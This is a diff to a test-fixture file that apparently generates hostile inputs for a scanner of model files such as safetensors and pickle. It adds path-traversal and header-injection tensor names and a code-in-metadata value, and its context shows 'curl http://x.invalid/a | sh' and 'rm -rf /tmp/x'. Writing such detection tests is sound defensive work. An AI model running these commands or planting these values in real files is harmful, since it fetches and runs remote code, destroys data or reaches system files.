@@ -59,6 +59,25 @@ export const FORMAT_FAMILIES: readonly Family[] = [
       ]),
   },
   {
+    name: 'tensor named like a path',
+    make: (random) => {
+      const name = random.pick([
+        '../../tmp/x',
+        'a/../../etc/x',
+        '..\\x',
+        'C:\\x',
+        '/etc/passwd',
+        'w\r\nX: y',
+        'w\0x',
+      ]);
+      return {
+        path: 'model.safetensors',
+        bytes: safetensorsFile({ [`${random.word()}.w`]: f32(0, 4), [name]: f32(4, 8) }, 8),
+        rule: /^name-unsafe/,
+      };
+    },
+  },
+  {
     name: 'code in metadata',
     make: (random) => {
       const value = random.pick([
@@ -67,6 +86,7 @@ export const FORMAT_FAMILIES: readonly Family[] = [
         'curl http://x.invalid/a | sh',
         'rm -rf /tmp/x',
         '__import__("os")',
+        '__import__ os',
         'eval(compile("1","","eval"))',
       ]);
       const metadata = { [random.word()]: value, format: 'pt' };
@@ -219,10 +239,19 @@ export const FORMAT_FAMILIES: readonly Family[] = [
       const tail = random.pick([
         () => zipFile([{ name: 'data.pkl', data: maliciousPickle(random) }]),
         () => maliciousPickle(random),
-        () => random.bytes(random.between(1, 99)),
+        // Zeros and line ends alone would be padding.
+        () => concat([Uint8Array.of(1), random.bytes(random.below(99))]),
       ])();
       return { path, bytes: concat([bytes, tail]), rule: /^(damaged|polyglot)/ };
     },
+  },
+  {
+    name: 'picture under another ending',
+    make: (random) => ({
+      path: `${random.word()}.${random.pick(['mp3', 'dat', 'ico', 'bmp', 'pdf'])}`,
+      bytes: random.pick([pngFile, jpegFile, gifFile, webpFile])(random),
+      rule: /^wrong-name/,
+    }),
   },
   {
     name: 'names',
